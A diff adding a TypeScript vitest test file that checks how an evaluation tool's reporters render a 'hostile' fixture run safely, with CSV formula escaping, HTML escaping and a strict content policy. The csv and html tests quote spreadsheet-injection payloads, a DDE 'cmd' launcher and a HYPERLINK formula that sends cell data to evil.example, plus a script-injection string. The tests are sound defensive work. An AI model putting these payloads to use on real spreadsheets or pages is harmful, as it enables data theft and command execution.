@@ -1,0 +1,99 @@
+import { describe, expect, it } from 'vitest';
+import { makeEmptyReport, makeFixtureReport, makeNullReport } from '../../test/fixtures/fixture-report.ts';
+import type { Reporter } from '../types/plugs.ts';
+import type { RunReport } from '../types/report.ts';
+import { REPORTERS } from './registry.ts';
+
+const plain = deepFreeze(makeFixtureReport({ samples: 60 }));
+const hostile = deepFreeze(makeFixtureReport({ samples: 42, hostile: true }));
+const reports: readonly (readonly [string, RunReport])[] = [
+  ['a plain run', plain],
+  [
+    'a streamed run over two datasets',
+    makeFixtureReport({ samples: 45, streamed: true, datasets: ['a', 'b'] }),
+  ],
+  ['hostile output', hostile],
+  ['a run in which nothing was measured', deepFreeze(makeNullReport())],
+  ['a run without cells', deepFreeze(makeEmptyReport())],
+];
+
+function deepFreeze<T>(value: T): T {
+  if (typeof value === 'object' && value !== null && !Object.isFrozen(value)) {
+    Object.freeze(value);
+    for (const entry of Object.values(value)) deepFreeze(entry);
+  }
+  return value;
+}
+
+function files(reporter: Reporter, report: RunReport): Record<string, string> {
+  return Object.fromEntries(reporter.render(report).map(({ file, chunks }) => [file, [...chunks].join('')]));
+}
+
+it('goes by the names that --reporter takes', () => {
+  expect(Object.keys(REPORTERS)).toEqual(['json', 'csv', 'html', 'junit', 'markdown']);
+});
+
+describe.each(Object.entries(REPORTERS))('reporter %s', (name, reporter) => {
+  it('has the name it is registered under', () => {
+    expect(reporter.name).toBe(name);
+  });
+
+  it.each(reports)('renders %s, the same twice, and leaves the report as it was', (_, report) => {
+    const first = files(reporter, report);
+    expect(files(reporter, report)).toEqual(first);
+    for (const [file, text] of Object.entries(first)) {
+      expect(file).toMatch(/^[a-z]+\.(json|csv|html|xml|md)$/);
+      expect(text.length, file).toBeGreaterThan(0);
+      expect(text.endsWith('\n'), file).toBe(true);
+    }
+  });
+
+  it.each(reports)('writes no NaN, undefined or [object Object] for %s', (_, report) => {
+    for (const text of Object.values(files(reporter, report))) {
+      const written = text.replace(/<script>[\s\S]*?<\/script>/, '');
+      expect(/\bNaN\b|\bundefined\b|\[object Object\]/.exec(written)?.[0] ?? null).toBeNull();
+    }
+  });
+
+  it('writes text that survives UTF-8, whatever the model said', () => {
+    for (const text of Object.values(files(reporter, hostile))) {
+      expect(Buffer.from(text, 'utf8').toString('utf8')).toBe(text);
+    }
+  });
+});
+
+it('json carries the whole report', () => {
+  const text = files(REPORTERS.json, hostile)['report.json'] ?? '';
+  expect(JSON.parse(text)).toEqual(JSON.parse(JSON.stringify(hostile)));
+  expect(JSON.parse(files(REPORTERS.json, makeEmptyReport())['report.json'] ?? '')).toEqual(
+    JSON.parse(JSON.stringify(makeEmptyReport())),
+  );
+});
+
+it('csv keeps hostile answers whole inside their cell, and starts none with a formula', () => {
+  const text = files(REPORTERS.csv, hostile)['requests.csv'] ?? '';
+  expect(text).toContain(`,'+1+cmd|' /C calc'!A0,'+1+cmd|' /C calc'!A0\n`);
+  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+  expect(text).toContain('"\'\rCarriage return first"');
+  expect(text).not.toContain('\0');
+});
+
+it('html lets no hostile text out of its place', () => {
+  const page = files(REPORTERS.html, hostile)['report.html'] ?? '';
+  expect(page.match(/<script/g)).toHaveLength(2);
+  expect(page.match(/<\/script/g)).toHaveLength(2);
+  expect(page).not.toContain('<img');
+  for (const character of ['\0', '\u001b', '\u202E', '\u2028', '\u2029']) {
+    expect(page.includes(character)).toBe(false);
+  }
+  expect(page).toContain('billing &lt;script&gt;document.title&#x3D;&quot;owned&quot;&lt;/script&gt;');
+});
+
+it('html refers to nothing outside itself', () => {
+  const page = files(REPORTERS.html, plain)['report.html'] ?? '';
+  expect(page).toContain(
+    `content="default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; img-src data:`,
+  );
+  expect(page.match(/\b(?:src|href|action|srcset)="(?!#)[^"]*"/g)).toBeNull();
+  expect(page).not.toMatch(/@import|url\(/);
+});
